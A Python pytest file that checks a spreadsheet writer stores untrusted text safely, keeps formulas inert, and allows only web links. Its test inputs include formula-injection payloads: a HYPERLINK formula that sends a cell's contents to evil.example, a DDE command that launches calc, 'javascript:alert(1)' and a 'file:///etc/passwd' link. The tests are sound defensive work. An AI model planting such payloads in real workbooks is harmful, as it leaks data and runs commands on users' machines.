"""What is written is read back as it was meant: by openpyxl, and by LibreOffice."""

import re
import zipfile
from collections.abc import Iterator, Sequence
from datetime import date
from fractions import Fraction
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cloudeval.model.text import disarmed
from cloudeval.workbooks.book import Book, Sheet
from cloudeval.workbooks.cells import Cell, Formula, Link, Row
from cloudeval.workbooks.writing import write_workbook
from cloudeval.workbooks.writing.texts import LONGEST, held, is_link
from tests.workbooks import recomputing

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "1.10",
    "1E5",
    "MAR-1",
    "SEPT2",
    "00042",
    "TRUE",
    "VRAI",
    "C5",
    "NIS2",
    "#N/A",
    "#REF!",
    "\x00\x01\x08\x1b[31m",
    "\ufffe\uffff",
    "\ud800",
    "_x0041_ and _x005F_x0041_",
    "<b>&amp;</b> ]]> <!--",
    "  spaces  ",
    "two\nlines",
    "a\n" * 400,
    "x" * 40_000,
    "🙂" * 17_000,
    "javascript:alert(1)",
)


def book(rows: Sequence[Row], *, label: str = "") -> Book:
    """A book of one sheet."""
    width = max(map(len, rows), default=1)

    def numbered() -> Iterator[tuple[int, Row]]:
        return enumerate(rows)

    sheet = Sheet("Trial", (20.0,) * width, ("text",) * width, numbered, (len(rows), width))
    return Book("t", "s", label, "abc", date(2024, 2, 29), {"page": "page"}, {}, [sheet])


def read_back(path: Path) -> list[list[object]]:
    return [
        [cell.value for cell in row] for row in openpyxl.load_workbook(path)["Trial"].iter_rows()
    ]


def unescaped(text: object) -> str:
    """openpyxl leaves Excel's escapes in a text that stands in its cell."""
    return re.sub("_x005F_", "_", str(text))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_text(tmp_path: Path, text: str) -> None:
    path = tmp_path / "b.xlsx"
    write_workbook(book([(text,)]), path)
    cell = openpyxl.load_workbook(path)["Trial"]["A1"]
    assert cell.data_type in ("s", "inlineStr")
    assert unescaped(cell.value) == held(text)
    assert b"<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")


def test_libreoffice_takes_no_hostile_text_for_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "b.xlsx"
    write_workbook(book([*((text,) for text in HOSTILE), (Formula("1+1", 2),)]), path)
    (computed,) = recomputing.recomputed([path], tmp_path)
    assert list(recomputing.formulas(computed).values()) == ["=1+1"]
    stored = recomputing.results(computed)
    for number, text in enumerate(HOSTILE, start=1):
        found = stored["Trial", f"A{number}"]
        assert isinstance(found, str)
        assert unescaped(found).replace("\r", "") == unescaped(held(text)), text[:40]


def test_what_looks_like_a_formula_stays_text_when_it_is_edited(tmp_path: Path) -> None:
    path = tmp_path / "b.xlsx"
    write_workbook(book([("=1+1",), ("plain",)]), path)
    sheet = openpyxl.load_workbook(path)["Trial"]
    assert sheet["A1"].quotePrefix
    assert not sheet["A2"].quotePrefix


@settings(max_examples=60)
@given(st.text(max_size=60))
def test_any_text_comes_back_but_for_what_no_file_may_hold(text: str) -> None:
    found = held(text)
    assert found == disarmed(text)
    assert held(found) == found


def test_a_text_that_is_too_long_ends_with_a_mark() -> None:
    cut = held("x" * 40_000)
    assert len(cut) == LONGEST
    assert cut.endswith(" […]")
    pairs = held("🙂" * 17_000)
    assert len(pairs.encode("utf-16-le")) // 2 <= LONGEST
    assert pairs.endswith(" […]")


@pytest.mark.parametrize(
    ("address", "opens"),
    [
        ("https://example.org/a?b=c&d=%20#e", True),
        ("http://example.org", True),
        ("HTTPS://EXAMPLE.ORG/", True),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("external:\\\\host\\share", False),
        ("\\\\host\\share", False),
        ("internal:Trial!A1", False),
        ("mailto:a@example.org", False),
        ("https://example.org/ with spaces", False),
        ("https://" + "a" * 2_100, False),
        ("=HYPERLINK(1)", False),
        ("", False),
    ],
)
def test_only_addresses_of_the_web_are_links(tmp_path: Path, address: str, opens: bool) -> None:  # noqa: FBT001 - a column
    assert is_link(address) is opens
    path = tmp_path / "b.xlsx"
    write_workbook(book([(Link(address, "text"),)]), path)
    cell = openpyxl.load_workbook(path)["Trial"]["A1"]
    assert cell.value == "text"
    assert (cell.hyperlink is not None) is opens


@pytest.mark.parametrize("link", [1, 2])
def test_links_beyond_what_a_sheet_bears_are_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: int
) -> None:
    monkeypatch.setattr("cloudeval.workbooks.writing.stream.MOST_LINKS", link)
    path = tmp_path / "b.xlsx"
    rows = [(Link(f"https://example.org/{n}", str(n)),) for n in range(3)]
    write_workbook(book(rows), path)
    sheet = openpyxl.load_workbook(path)["Trial"]
    assert sum(row[0].hyperlink is not None for row in sheet.iter_rows()) == link
    assert [row[0] for row in read_back(path)] == ["0", "1", "2"]


def test_a_formula_is_written_with_its_true_value(tmp_path: Path) -> None:
    path = tmp_path / "b.xlsx"
    third = Fraction(1, 3)
    rows: list[tuple[Cell, ...]] = [
        (Formula("1/3", third), third, 7),
        (Formula('IF(A1<1,"a & b","c")', "a & b"), "a & b"),
    ]
    write_workbook(book(rows), path)
    stored = openpyxl.load_workbook(path, data_only=True)["Trial"]
    assert [[c.value for c in row] for row in stored.iter_rows()] == [
        [1 / 3, 1 / 3, 7],
        ["a & b", "a & b", None],
    ]
    assert read_back(path)[1][0] == '=IF(A1<1,"a & b","c")'


@pytest.mark.parametrize("wrong", [float("nan"), float("inf")])
def test_what_is_no_number_is_never_written(tmp_path: Path, wrong: float) -> None:
    with pytest.raises(ValueError, match=str(wrong)):
        write_workbook(book([(wrong,)]), tmp_path / "b.xlsx")


def test_a_formula_longer_than_excel_takes_is_a_fault_of_ours(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"1\+1"):
        write_workbook(book([(Formula("1+" * 5_000 + "1", 0),)]), tmp_path / "b.xlsx")


def test_two_runs_write_the_same_bytes(tmp_path: Path) -> None:
    for name in ("a.xlsx", "b.xlsx"):
        write_workbook(book([("x", 1, Formula("B1+1", 2))], label="L & M"), tmp_path / name)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_the_day_of_the_document_is_the_evaluations(tmp_path: Path) -> None:
    path = tmp_path / "b.xlsx"
    write_workbook(book([("x",)]), path)
    told = openpyxl.load_workbook(path).properties
    assert str(told.created) == "2024-02-29 00:00:00"
    assert told.creator == "cloudeval"


def test_what_is_written_does_not_grow_in_memory() -> None:
    """Rows are asked for one after the other, and none is kept."""
    alive: set[int] = set()
    most = 0

    def rows() -> Iterator[tuple[int, Row]]:
        nonlocal most
        for number in range(5_000):
            alive.add(number)
            most = max(most, len(alive))
            yield number, (str(number),)
            alive.discard(number)

    sheet = Sheet("Trial", (9.0,), ("text",), rows, (5_000, 1))
    whole = Book("t", "s", "", "abc", date(2024, 1, 1), {"page": "p"}, {}, [sheet])
    told: list[tuple[int, int]] = []
    write_workbook(whole, BytesIO(), lambda done, total: told.append((done, total)))
    assert most == 1
    assert told[-1] == (5_000, 5_000)
    assert len(told) > 5
